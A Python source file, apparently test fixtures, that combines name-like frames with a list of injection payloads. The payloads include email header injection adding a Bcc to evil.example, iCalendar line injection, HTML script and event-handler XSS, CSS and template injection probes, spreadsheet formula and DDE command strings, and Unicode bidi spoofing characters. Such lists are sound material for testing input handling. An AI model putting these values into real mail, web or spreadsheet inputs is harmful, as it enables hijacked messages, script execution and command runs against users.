"""A thousand texts that want to be more than text: in mails, calendars, pages, styles, tables."""

from __future__ import annotations

import itertools

_PAYLOADS = (
    # headers
    "\r\nBcc: x@evil.example", "\nBcc: x@evil.example", "\rBcc: x@evil.example", "\r\n\r\n<b>body</b>",
    "\x1cBcc: x@evil.example", "\x85Bcc: x@evil.example", "\u2028Bcc: x@evil.example",
    "\u2029Bcc: x@evil.example", "\x0bBcc: x@evil.example", "\x0c", "\x00", "\x1e", "\x1f", "\x7f",
    "=?utf-8?Q?=0D=0ABcc:_x@evil.example?=", "=?utf-8?B?DQpCY2M6IHhAZXZpbA==?=", "x@evil.example,",
    '" <x@evil.example>, "', "<x@evil.example>", "(comment", "\\", '\\"', "; x=y", ", y@evil.example;",
    # iCalendar
    "\r\nATTENDEE:mailto:x@evil.example", "\\nATTENDEE:mailto:x", ";CN=x:mailto:x", '":mailto:x',
    "\r\nEND:VEVENT\r\nBEGIN:VEVENT", "\nRRULE:FREQ=SECONDLY", "^n^'^^", "\n METHOD:CANCEL", ":", ";", ",",
    # HTML
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", '"><b>', "'><b>", "</td></tr></table>",
    "<!--", "-->", "]]>", "<svg/onload=alert(1)>", "&lt;b&gt;", "&#60;b&#62;", "<a href='javascript:x'>",
    "</title><script>", "</style><script>", "<base href=//evil.example>", "\u2039b\u203a", "＜b＞",
    # CSS
    "}body{display:none", "/*", "*/", "expression(alert(1))", "url(https://evil.example/x.png)",
    "@import 'https://evil.example'", "</style>", "\\3c b", "};a:{", "behavior:url(x)",
    # templates
    "{{7*7}}", "{% raw %}", "{#", "#}", "{{''.__class__}}", "{%include 'x'%}", "${7*7}", "<%=7*7%>",
    "{{ n.reader.email }}", "%s%n%x", "{0}", "{reader.__init__}",
    # tables
    "=1+1", "+1", "-1", "@SUM(A1)", "\t=1+1", "\r=1+1", "\n=1", " =1", "＝1+1", '"=1"', "=cmd|'/C x'!A0",
    '=HYPERLINK("https://evil.example")', ";=1", ",=1", '",=1,"', "'=1", "=1\x00",
    # looks
    "\u202egnp.exe", "\u2066", "\u200b", "\ufeff", "\u00ad", "\u061c", "\U000e0041", "\ufff9", "\ud800",
    "a\u0300" * 200, "𝕏" * 300, "W" * 500,
)  # fmt: skip
_FRAMES = (
    "{}",
    "Dana{}",
    "{}Lee",
    "Dana {} Lee",
    "{0}{0}",
    "O'{}",
    '"{}"',
    "Dana\u00a0{}",
    "{}\n",
    "\n{}",
)

STRINGS: tuple[str, ...] = tuple(
    dict.fromkeys(
        frame.replace("{0}", payload).replace("{}", payload)
        for frame, payload in itertools.product(_FRAMES, _PAYLOADS)
    )
)
